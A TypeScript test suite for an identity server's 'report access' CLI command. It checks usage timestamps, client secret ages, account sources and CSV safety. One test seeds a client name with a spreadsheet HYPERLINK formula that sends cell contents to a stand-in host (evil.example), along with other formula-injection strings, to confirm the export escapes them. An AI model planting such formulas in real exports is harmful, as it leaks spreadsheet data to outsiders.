/** `postern report access` beside a server that was used. */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import { startOpenIdProvider } from '../support/identity-providers.ts';
import { authorize, basic, mvc, post, signInAndRedeem } from '../support/sign-in.ts';
import { startTestServer } from '../support/start-server.ts';
import { install } from './postern.ts';

type Cells = Record<string, string>;

/** Reads RFC 4180 as strictly as it is written. */
function parseCsv(text: string): Cells[] {
  const rows: string[][] = [];
  const rest = text.replace(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy, (_all, quoted, plain, end) => {
    const row = rows.at(-1) ?? [];
    if (rows.length === 0) rows.push(row);
    row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
    return '';
  });
  assert.equal(rest, '', 'everything is a cell');
  const [columns = [], ...lines] = rows.slice(0, -1);
  return lines.map((cells) => Object.fromEntries(columns.map((name, index) => [name, cells[index] ?? ''])));
}

const hour = (at: number) => new Date((at - (at % 3600)) * 1000).toISOString().replace('.000Z', 'Z');

test('the report has when clients and accounts were last used, to the hour, once the server has stopped', async (t) => {
  const installation = await install(t, { server: { Log: { Level: 'error' } } });
  const { issuer, run, spawn } = installation;
  const server = spawn(['start']);
  while (!existsSync(join(installation.folder, 'data/postern.sqlite'))) await new Promise(setImmediate);
  for (let up = false; !up; )
    up = await fetch(`${issuer}/`).then(
      ({ ok }) => ok,
      () => false,
    );
  const startedAt = Math.floor(Date.now() / 1000);
  await signInAndRedeem({ issuer, ...mvc });
  await post(`${issuer}/connect/token`, { grant_type: 'client_credentials' }, basic('batch', 'batch-secret'));
  await post(`${issuer}/connect/token`, { grant_type: 'client_credentials' }, basic('batch-ref', 'wrong'));
  server.child.kill('SIGTERM');
  await server.finish();

  const clients = parseCsv((await run(['report', 'access', '--clients'])).stdout);
  const accounts = parseCsv((await run(['report', 'access', '--accounts'])).stdout);
  const times = [hour(startedAt), hour(Math.floor(Date.now() / 1000))];
  const isNow = (time: string | undefined) => assert.ok(times.includes(time ?? ''), time);
  const client = (id: string) => clients.find(({ client_id }) => client_id === id) ?? {};
  isNow(client('mvc').last_use);
  isNow(client('batch').last_use);
  assert.equal(client('batch-ref').last_use, '', 'a caller with a wrong secret is somebody else');
  assert.equal(client('spa').last_use, '');
  const [alice, bob] = ['alice', 'bob'].map((id) => accounts.find(({ account_id }) => account_id === id));
  isNow(alice?.last_sign_in);
  isNow(alice?.last_use);
  assert.deepEqual([bob?.last_sign_in, bob?.last_use], ['', '']);
});

test('the report names what a client may, how old its secrets are, when they end, and its deviations', async (t) => {
  const { run } = await install(t, {
    clients: {
      'mi-legacy': { Enabled: false },
      desk: {
        ClientSecrets: [
          { Value: { plain: 'desk-secret' }, Created: '2026-01-31', Expiration: '2027-01-31T00:00:00Z' },
          { Value: { plain: 'desk-secret-2' } },
        ],
      },
    },
  });
  assert.equal((await run(['migrate'])).code, 0);
  const { stdout, code } = await run(['report', 'access', '--clients']);
  assert.equal(code, 0);
  const rows = parseCsv(stdout);
  const { secret_age_days: ages = '', ...desk } = rows.find(({ client_id }) => client_id === 'desk') ?? {};
  assert.deepEqual(desk, {
    client_id: 'desk',
    name: desk.name,
    enabled: 'yes',
    flow: 'ResourceOwner',
    grant_types: 'password refresh_token',
    scopes: desk.scopes,
    secrets: '2',
    secret_ends: '2027-01-31T00:00:00Z never',
    deviations: 'Flow: desk sees the passwords of its users (RFC 9700 section 2.4)',
    last_use: '',
  });
  assert.match(
    desk.scopes ?? '',
    /\bintelligence_web_api\b.*\boffline_access\b|offline_access.*intelligence_web_api/,
  );
  const days = Math.floor((Date.now() - Date.parse('2026-01-31')) / 86_400_000);
  assert.ok([`${days} unknown`, `${days - 1} unknown`].includes(ages), ages);
  const legacy = rows.find(({ client_id }) => client_id === 'mi-legacy');
  assert.deepEqual([legacy?.enabled, legacy?.secrets, legacy?.secret_ends], ['no', '0', '']);
});

test('a secret that postern makes has its age in the report', async (t) => {
  const { run } = await install(t);
  await run(['migrate']);
  assert.equal((await run(['client', 'add', 'new', '--flow', 'ClientCredentials'])).code, 0);
  const rows = parseCsv((await run(['report', 'access', '--clients'])).stdout);
  assert.match(rows.find(({ client_id }) => client_id === 'new')?.secret_age_days ?? '', /^[01]$/);
});

test('the report says who vouches for an account, and keeps nothing of a removed one', async (t) => {
  const standIn = await startOpenIdProvider(t, { sub: 'u-1', preferred_username: 'newcomer' });
  const partner = {
    ...{ Type: 'Oidc', Authority: standIn.issuer, ClientId: standIn.clientId, ProvisionAccounts: true },
    ...{ ClientSecret: { plain: 'partner-secret' }, UserNameClaims: ['preferred_username'] },
  };
  const server = await startTestServer(t, {
    providers: { IntelligenceWsFed: null, Partner: partner },
    clients: {
      mvc: { IdentityProviderRestrictions: ['Partner'] },
      spa: { IdentityProviderRestrictions: ['Partner'] },
    },
  });
  const { issuer, context } = server;
  const { browser, page } = await authorize({ issuer, ...mvc });
  const leaving = await browser.submit(page, { provider: 'Partner' });
  await browser.open((await browser.open(leaving.location ?? '')).location ?? '');
  await context.accounts.remove('bob');
  await signInAndRedeem({ issuer, ...mvc });
  await server.stop();

  const home = dirname(server.configDirectory);
  const { run } = await install(t);
  const report = async () =>
    parseCsv((await run(['--config', join(home, 'config'), 'report', 'access', '--accounts'])).stdout);
  const rows = await report();
  assert.deepEqual(
    rows.map(({ account_id, source, enabled }) => [account_id, source, enabled]),
    [
      ['alice', 'local', 'yes'],
      ['batch', '', 'yes'],
      ['EXAMPLE\\carol', 'windows', 'yes'],
      ['newcomer', 'Partner', 'yes'],
    ],
  );
  assert.notEqual(rows.at(-1)?.last_sign_in, '');
  assert.equal(
    (await run(['--config', join(home, 'config'), 'account', 'remove', 'alice', '--yes'])).code,
    0,
  );
  assert.ok(!(await report()).some(({ account_id }) => account_id === 'alice'));
});

test('a cell that a spreadsheet would run is text, and every other one is what it was', async (t) => {
  const { run, folder } = await install(t, {
    clients: {
      mvc: { ClientName: '=HYPERLINK("http://evil.example/?" & A1, "ok")' },
      batch: { ClientName: 'plain; =cmd' },
    },
    accounts: [
      { Name: 'zoe', DisplayName: '@SUM(1+1)', Roles: ['-2+3', 'a "b", c'] },
      { Name: 'yves', DisplayName: 'Yves Müller' },
    ],
  });
  await run(['migrate']);
  await run(['account', 'add', 'xena', '--display-name', '\t=1+1', '--no-password']);
  mkdirSync(join(folder, 'review'));
  writeFileSync(join(folder, 'review/accounts.csv'), 'of last year', { mode: 0o644 });
  const { code, stderr, stdout } = await run(['report', 'access', '--output', 'review']);
  assert.equal(code, 0, stderr);
  assert.match(stdout, /^wrote review.clients\.csv: \d+ rows\nwrote review.accounts\.csv: 3 rows\n$/);
  const read = (name: string) => readFileSync(join(folder, 'review', name), 'utf8');
  const [clients, accounts] = [read('clients.csv'), read('accounts.csv')];
  for (const text of [clients, accounts]) {
    assert.equal(text[0], '\ufeff');
    for (const row of parseCsv(text.slice(1))) {
      for (const cell of Object.values(row)) assert.doesNotMatch(cell, /(^|[;,\t\r\n])\s*[=+\-@]|^\s/);
    }
  }
  const nameOf = (text: string, id: string) =>
    parseCsv(text.slice(1)).find((row) => (row.client_id ?? row.account_id) === id)?.name;
  assert.equal(nameOf(clients, 'mvc'), `'=HYPERLINK("http://evil.example/?" & A1, "ok")`);
  assert.equal(nameOf(accounts, 'yves'), 'Yves Müller');
  if (process.platform !== 'win32') {
    assert.equal(statSync(join(folder, 'review/accounts.csv')).mode & 0o077, 0, 'for nobody else');
  }
});

test('a report that does not say what of is refused, and so is a folder that cannot be', async (t) => {
  const { run, write } = await install(t);
  await run(['migrate']);
  for (const more of [[], ['--clients', '--accounts']]) {
    const { code, stderr } = await run(['report', 'access', ...more]);
    assert.equal(code, 64);
    assert.match(stderr, /--clients, --accounts, or --output/);
  }
  await write('taken', 'a file');
  const { code, stderr } = await run(['report', 'access', '--output', 'taken']);
  assert.equal(code, 73);
  assert.match(stderr, /taken.clients\.csv cannot be written/);
});
